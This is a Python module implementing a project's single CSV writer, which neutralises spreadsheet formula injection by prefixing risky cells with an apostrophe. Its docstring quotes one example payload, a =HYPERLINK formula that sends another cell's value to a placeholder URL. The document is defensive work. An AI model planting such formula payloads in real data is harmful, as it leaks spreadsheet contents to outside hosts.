"""The one CSV writer: every file the project writes goes through it (``csv_text`` for a
file built whole, ``csv_stream`` and ``csv_fields`` for exports written as they are read).

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(some also one that starts with a tab, a carriage return or a line feed before one), so
a contact name ``=HYPERLINK("http://x?"&C2)`` would run in the data manager's Excel.
Such a cell gets a leading ``'`` (OWASP's CSV injection rule; ASVS 1.2.10 adds NUL),
which spreadsheets hide and read as "this is text". A plain number (``-2.5``,
``-0.109``, ``1e-5``) is left as it is, so the statisticians' files still parse as
numbers. Pure: imports nothing from Django.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
LINE_END = "\r\n"
#: What makes Python's writer (QUOTE_MINIMAL) quote a cell: the delimiter, the quote,
#: or a character of a line end.
NEEDS_QUOTES = re.compile(r'[",\r\n]')


def safe_cell(value: object) -> str:
    """Return ``value`` as CSV cell text that no spreadsheet reads as a formula.

    ``None`` is an empty cell; numbers are written as numbers; text starting with a
    formula character gets a leading ``'`` unless it is a plain decimal number.
    """
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, object]], *,
             ignore_extra: bool = False) -> str:
    """Return a CSV file (header, then one line per row) with every cell made safe.

    Lines end in CRLF as RFC 4180 says: with a bare LF, a cell holding a carriage return
    left unquoted would start a new row in a spreadsheet (every such cell is quoted).

    A row's keys outside ``columns`` are an error unless ``ignore_extra``; a missing
    key is an empty cell.
    """
    return "".join(csv_stream(columns, rows, ignore_extra=ignore_extra))


def _quoted(text: str) -> str:
    if NEEDS_QUOTES.search(text):
        return '"' + text.replace('"', '""') + '"'
    return text


def csv_fields(cells: Iterable[object]) -> str:
    """Return ``cells`` as the fields of one CSV line (no line end), each made safe and
    quoted as ``csv_text`` would.

    For writers that put a line together from pieces rendered once (a patient's columns,
    a time point's) and reused on every row: ``csv_fields(head) + "," + csv_fields(tail)
    + LINE_END`` is the line ``csv_text`` writes for ``head + tail``. An ``int`` may be
    joined in as ``str(n)``: a plain number is never a formula and needs no quotes.
    """
    return ",".join([_quoted(safe_cell(cell)) for cell in cells])


def csv_stream(columns: Sequence[str], rows: Iterable[Mapping[str, object]], *,
               ignore_extra: bool = False, lines_per_chunk: int = 1000) -> Iterator[str]:
    """Yield the file ``csv_text`` returns, in pieces: the header, then ``lines_per_chunk``
    lines at a time, so a caller can write (or send) it as the rows are read."""
    known = set(columns)
    yield csv_fields(columns) + LINE_END
    chunk: list[str] = []
    for row in rows:
        if not ignore_extra and not known.issuperset(row):
            raise ValueError(f"columns not in the file: {sorted(set(row) - known)}")
        # A line of one empty cell is written '""' (as Python's writer does), not blank.
        chunk.append((csv_fields(row.get(c) for c in columns) or '""') + LINE_END)
        if len(chunk) >= lines_per_chunk:
            yield "".join(chunk)
            chunk = []
    if chunk:
        yield "".join(chunk)
